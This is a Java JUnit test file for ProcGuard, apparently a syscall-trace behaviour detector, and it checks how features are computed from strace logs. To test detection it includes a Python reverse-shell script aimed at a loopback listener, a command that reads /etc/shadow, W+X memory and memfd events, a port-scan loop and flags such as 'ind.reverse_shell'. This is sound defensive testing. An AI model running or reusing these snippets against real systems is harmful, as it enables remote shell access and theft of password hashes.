package io.procguard.ml;

import static org.assertj.core.api.Assertions.assertThat;

import io.procguard.core.FeatureVector;
import io.procguard.core.ImmutableTraceEvent;
import io.procguard.core.Syscalls;
import io.procguard.core.process.ProcessRecord;
import java.io.IOException;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class BehaviourFeaturesTest {
    private final BehaviourFeatures features = new BehaviourFeatures();

    @TempDir
    Path dir;

    @Test
    void schemaIsVersionedAndEveryFeatureIsComputedOneWay() {
        assertThat(features.schema().version()).isEqualTo(BehaviourFeatures.SCHEMA_VERSION);
        assertThat(features.schema().names()).contains("sys.freq.read", "cat.file_ratio", "err.eacces_rate",
                "path.shadow_read", "net.connect_count", "net.dup_socket_to_stdio", "exec.shell", "mem.wx_mapping");
        for (Feature f : Feature.values()) {
            int ways = (BehaviourFeatures.LOG_MARKS.contains(f) ? 1 : 0) + (BehaviourFeatures.RATE_MARKS.contains(f) ? 1 : 0)
                    + (BehaviourFeatures.FLAG_MARKS.contains(f) ? 1 : 0);
            assertThat(ways).as(f.id()).isLessThanOrEqualTo(1);
        }
    }

    @Test
    void everyIndicatorHasAHeadlineAndNothingElseDoes() {
        for (String name : features.schema().names()) {
            if (BehaviourFeatures.indicatorSeverity(name) > 0) {
                assertThat(BehaviourFeatures.headline(name)).as(name).isNotBlank();
            } else {
                assertThat(BehaviourFeatures.headline(name)).as(name).isNull();
            }
        }
        assertThat(BehaviourFeatures.headline("ind.reverse_shell")).isEqualTo("reverse shell");
    }

    @Test
    void featuresMdDocumentsExactlyTheSchemaInOrder() throws IOException {
        Path md = Path.of(System.getProperty("procguard.repo.root", ".."), "procguard-ml", "FEATURES.md");
        if (!Files.exists(md)) {
            md = Path.of("FEATURES.md");
        }
        String text = Files.readString(md, StandardCharsets.UTF_8);
        assertThat(text).as("FEATURES.md must hold BehaviourFeatures.markdownTable()").contains(BehaviourFeatures.markdownTable());
        assertThat(text.lines().findFirst().orElse("")).as("FEATURES.md's title names the schema it documents")
                .isEqualTo("# ProcGuard behaviour features, schema version " + BehaviourFeatures.SCHEMA_VERSION);
    }

    @Test
    void reverseShellShowsItsSocketOnStdinAndTheShellItStarts() throws Exception {
        StraceRuns.assumeStrace();
        try (ServerSocket listener = new ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
            Thread accept = new Thread(() -> {
                try (Socket s = listener.accept()) {
                    s.getInputStream().readAllBytes();
                } catch (IOException ignored) {
                    // the test checks the trace, not the bytes
                }
            });
            accept.start();
            String script = "import socket,os\n"
                    + "s=socket.create_connection(('127.0.0.1'," + listener.getLocalPort() + "))\n"
                    + "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1)\n"
                    + "os.execv('/bin/sh',['sh','-c','echo hi; cat /etc/hostname'])\n";
            Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, "/usr/bin/python3", "-c", script);
            accept.join(10_000);
            List<ProcessRecord> ps = StraceRuns.processes(log, features);
            ProcessRecord shell = ps.stream().filter(p -> p.pid() == ps.get(ps.size() - 1).pid()).findFirst().orElseThrow();
            FeatureVector v = shell.features();
            assertThat(shell.comm()).isEqualTo("sh");
            assertThat(v.get("net.dup_socket_to_stdio")).isEqualTo(1f);
            assertThat(v.get("net.connect_inet")).isEqualTo(1f);
            assertThat(v.get("exec.shell")).isEqualTo(1f);
            assertThat(v.get("exec.shell_c")).isEqualTo(1f);
            assertThat(v.get("exec.after_connect")).isEqualTo(1f);
            assertThat(v.get("net.stdio_socket_io")).isEqualTo(1f);
            assertThat(v.get("ind.reverse_shell")).isEqualTo(1f);
            assertThat(v.get("ind.any")).isEqualTo(1f);
            assertThat(shell.evidence()).anySatisfy(l -> assertThat(l).startsWith("connect(3, 127.0.0.1:" + listener.getLocalPort() + ")"));
            assertThat(shell.evidence()).anySatisfy(l -> assertThat(l).isEqualTo("dup2(3, 0) = 0"));
        }
    }

    @Test
    void benignCommandRaisesNoAttackFlags() throws Exception {
        StraceRuns.assumeStrace();
        Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, "/bin/ls", "-la", "/usr");
        List<ProcessRecord> ps = StraceRuns.processes(log, features);
        assertThat(ps).hasSize(1);
        FeatureVector v = ps.get(0).features();
        for (String flag : List.of("net.dup_socket_to_stdio", "path.shadow_read", "mem.wx_mapping", "exec.shell",
                "exec.after_connect", "priv.ptrace_attach", "path.cron_write")) {
            assertThat(v.get(flag)).as(flag).isZero();
        }
        assertThat(v.get("sys.freq.getdents")).isPositive();
        assertThat(v.get("cat.file_ratio")).isBetween(0.3f, 1f);
        assertThat(v.get("act.syscall_entropy")).isPositive();
    }

    @Test
    void sameBehaviourScoresTheSameWithOrWithoutDecorationsForFlagsThatDoNotNeedThem() throws Exception {
        StraceRuns.assumeStrace();
        Path plain = StraceRuns.trace(dir, List.of("-f"), "/bin/sh", "-c", "cat /etc/shadow > /dev/null; true");
        Path rich = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, "/bin/sh", "-c", "cat /etc/shadow > /dev/null; true");
        for (Path log : List.of(plain, rich)) {
            List<ProcessRecord> ps = StraceRuns.processes(log, features);
            assertThat(ps).anySatisfy(p -> {
                assertThat(p.comm()).isEqualTo("cat");
                assertThat(p.features().get("path.shadow_read")).isEqualTo(1f);
                assertThat(p.evidence()).anySatisfy(l -> assertThat(l).contains("/etc/shadow"));
            });
        }
    }

    @Test
    void writableExecutableMemoryAndMemfdAreFlagged() {
        var acc = features.newAccumulator();
        acc.accept(ImmutableTraceEvent.syscall(7, Syscalls.MMAP,
                "NULL, 4096, PROT_READ|PROT_WRITE|PROT_EXEC, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0", 0x7fe95bd6c000L, null));
        acc.accept(ImmutableTraceEvent.syscall(7, Syscalls.MEMFD_CREATE, "\"x\", 0", 3, null));
        acc.accept(ImmutableTraceEvent.syscall(7, Syscalls.OPENAT, "AT_FDCWD, \"/etc/shadow\", O_RDONLY", -1, "EACCES"));
        FeatureVector v = acc.snapshot();
        assertThat(v.get("mem.wx_mapping")).isEqualTo(1f);
        assertThat(v.get("mem.anon_exec")).isEqualTo((float) Math.log1p(1));
        assertThat(v.get("mem.memfd")).isEqualTo(1f);
        assertThat(v.get("err.eacces_rate")).isEqualTo(1f / 3);
        assertThat(v.get("file.open_fail_ratio")).isEqualTo(1f);
        assertThat(acc.evidence()).containsExactly(
                "mmap(NULL, 4096, PROT_READ|PROT_WRITE|PROT_EXEC, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0) = 0x7fe95bd6c000",
                "memfd_create(\"x\", 0) = 3",
                "openat(AT_FDCWD, \"/etc/shadow\", O_RDONLY) = -1 EACCES");
    }

    @Test
    void evidenceStaysBoundedAndKeepsTheMostTellingLines() {
        var acc = features.newAccumulator();
        acc.accept(ImmutableTraceEvent.syscall(7, Syscalls.DUP2, "3<TCP:[127.0.0.1:1->127.0.0.1:4444]>, 0", 0, null));
        for (int port = 1; port < 5000; port++) {
            acc.accept(ImmutableTraceEvent.syscall(7, Syscalls.CONNECT,
                    "3, {sa_family=AF_INET, sin_port=htons(" + port + "), sin_addr=inet_addr(\"10.0.0.1\")}, 16", -1, "ECONNREFUSED"));
        }
        assertThat(acc.evidence()).hasSize(EvidenceLog.CAPACITY).first().isEqualTo("dup2(3, 0) = 0");
        FeatureVector v = acc.snapshot();
        assertThat(v.get("net.distinct_ports_log")).isGreaterThan((float) Math.log1p(3000));
        assertThat(v.get("net.connect_fail_ratio")).isEqualTo(1f);
    }

    @Test
    void eventsWithoutArgumentsOrReturnValuesStillGiveAProfile() {
        var acc = features.newAccumulator();
        for (int i = 0; i < 100; i++) {
            acc.accept(new ImmutableTraceEvent(io.procguard.core.EventKind.SYSCALL, 1, ImmutableTraceEvent.ABSENT,
                    i % 2 == 0 ? Syscalls.READ : Syscalls.EXECVE, false, 0, 0, null, ImmutableTraceEvent.ABSENT, "", null,
                    -1, false, false, i));
        }
        FeatureVector v = acc.snapshot();
        assertThat(v.get("sys.freq.read")).isEqualTo(0.5f);
        assertThat(v.get("err.rate")).isZero();
        assertThat(v.get("act.syscall_entropy")).isEqualTo(1f);
    }

    @Test
    void everyCallCountsOnceEitherInItsGroupOrInAnOtherBucketOnARealTrace() throws Exception {
        StraceRuns.assumeStrace();
        Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, "/bin/sh", "-c", "ls / > /dev/null; cd /tmp; pwd");
        for (ProcessRecord p : StraceRuns.processes(log, features)) {
            FeatureVector v = p.features();
            double total = Math.expm1(v.get("act.syscalls_log"));
            double grouped = 0;
            double other = 0;
            double pairs = 0;
            for (String name : features.schema().names()) {
                if (name.startsWith("sys.count.")) {
                    grouped += Math.expm1(v.get(name));
                    assertThat(v.get(name)).as(name).isCloseTo(
                            (float) Math.log1p(v.get("sys.freq." + name.substring(10)) * total), org.assertj.core.data.Offset.offset(1e-3f));
                } else if (name.startsWith("sys.other.")) {
                    other += Math.expm1(v.get(name));
                } else if (name.startsWith("seq.bigram.")) {
                    pairs += v.get(name);
                }
            }
            assertThat(grouped + other).as(p.comm()).isCloseTo(total, org.assertj.core.data.Offset.offset(total * 1e-4));
            assertThat(other).as(p.comm() + " calls outside the groups (execve's exit_group, arch_prctl...)").isPositive();
            assertThat(pairs).as(p.comm()).isCloseTo(1.0, org.assertj.core.data.Offset.offset(1e-4));
        }
    }

    @Test
    void callsOutsideTheGroupsLandInTheBucketThatListsThem() {
        var acc = features.newAccumulator();
        for (int i = 0; i < 5; i++) {
            acc.accept(ImmutableTraceEvent.syscall(7, Syscalls.LSEEK, "3, 0, SEEK_SET", 0, null));
        }
        acc.accept(ImmutableTraceEvent.syscall(7, Syscalls.READ, "3, \"x\", 1", 1, null));
        FeatureVector v = acc.snapshot();
        String lseekBucket = features.schema().names().stream()
                .filter(n -> n.startsWith("sys.other.") && BehaviourFeatures.describe(n).matches(".*[ :]lseek(,.*|$)"))
                .findFirst().orElseThrow();
        assertThat(v.get(lseekBucket)).isEqualTo((float) Math.log1p(5));
        assertThat(v.get("sys.count.read")).isEqualTo((float) Math.log1p(1));
        assertThat(v.get("sys.freq.read")).isEqualTo(1f / 6);
    }

    @Test
    void callPairsAreTakenPerThreadSoInterleavingDoesNotChangeThem() {
        int[] first = {Syscalls.READ, Syscalls.WRITE, Syscalls.READ, Syscalls.WRITE, Syscalls.LSEEK};
        int[] second = {Syscalls.OPENAT, Syscalls.CLOSE, Syscalls.FUTEX, Syscalls.OPENAT, Syscalls.CLOSE};
        var interleaved = features.newAccumulator();
        var oneThreadAfterTheOther = features.newAccumulator();
        var asOneThread = features.newAccumulator();
        for (int i = 0; i < first.length; i++) {
            interleaved.accept(ImmutableTraceEvent.syscall(7, first[i], "", 0, null));
            interleaved.accept(ImmutableTraceEvent.syscall(8, second[i], "", 0, null));
            asOneThread.accept(ImmutableTraceEvent.syscall(7, first[i], "", 0, null));
            asOneThread.accept(ImmutableTraceEvent.syscall(7, second[i], "", 0, null));
        }
        for (int call : first) {
            oneThreadAfterTheOther.accept(ImmutableTraceEvent.syscall(7, call, "", 0, null));
        }
        for (int call : second) {
            oneThreadAfterTheOther.accept(ImmutableTraceEvent.syscall(8, call, "", 0, null));
        }
        float[] a = bigrams(interleaved.snapshot());
        assertThat(a).containsExactly(bigrams(oneThreadAfterTheOther.snapshot()));
        assertThat(a).isNotEqualTo(bigrams(asOneThread.snapshot()));
        float sum = 0;
        for (float x : a) {
            sum += x;
            assertThat(x * 8).as("4 + 4 pairs").isEqualTo(Math.round(x * 8));
        }
        assertThat(sum).isEqualTo(1f);
    }

    private float[] bigrams(FeatureVector v) {
        float[] out = new float[32];
        for (int b = 0; b < out.length; b++) {
            out[b] = v.get(String.format("seq.bigram.%02d", b));
        }
        return out;
    }
}
